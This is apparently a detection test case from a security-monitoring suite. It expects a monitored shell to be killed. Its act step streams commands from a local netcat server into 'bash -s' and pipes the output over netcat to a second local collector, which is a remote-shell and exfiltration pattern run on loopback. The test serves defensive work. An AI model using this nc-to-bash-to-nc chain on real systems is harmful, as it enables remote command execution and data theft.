# R54t: twin: a script is fetched for a shell in pieces, and its log goes to a collector
# stage: equipped
# expect: process_terminated
#   process.process_id: $shell

#: prepare
. lib/peers.sh
peer 4661
python3 -c '
import socket, time
server = socket.create_server(("", 4660)); connection, _ = server.accept()
connection.recv(4096)
for _ in range(6): connection.sendall(b"id; sleep 0.7\n"); time.sleep(0.5)' > /dev/null 2>&1 &
await 'grep -q ":1234 0*:0000 0A" /proc/net/tcp'
#: act
. lib/peers.sh
act
(echo GET | nc.openbsd 127.0.0.1 4660 | bash -s r54t 2>&1 | nc.openbsd -N 127.0.0.2 4661) \
  < /dev/null > /dev/null 2>&1 &
who shell 'bash -s r54t'
await '! [ -e /proc/$shell ]'
